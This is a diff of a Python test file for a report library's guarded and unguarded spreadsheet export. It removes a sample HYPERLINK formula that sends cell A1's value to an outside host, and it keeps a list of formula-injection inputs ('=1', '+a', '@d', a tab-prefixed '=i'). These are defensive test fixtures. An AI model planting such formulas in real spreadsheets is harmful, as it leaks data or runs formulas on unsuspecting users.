@@ -14,7 +14,7 @@ import rankreport as rr
 from rankreport.io import open_corpus, read_pairs, write_frame
 from rankreport.io.spreadsheet import guarded, unguarded
 
-LINK = '=HYPERLINK("http://example.org?"&A1,"open")'
+LINK = '=HYPERLINK("#A1","open")'
 CELLS = [LINK, "=1", "+a", "-b c", "@d", "'=e", "''@f", "'g", "-0.5", "+1e3", "'-1", "h", "\t=i"]
 IDS = [each for each in CELLS if "\t" not in each]
 NUMBER = re.compile(r"[+-](\d+\.?\d*|\.\d+)(e[+-]?\d+)?", re.IGNORECASE)
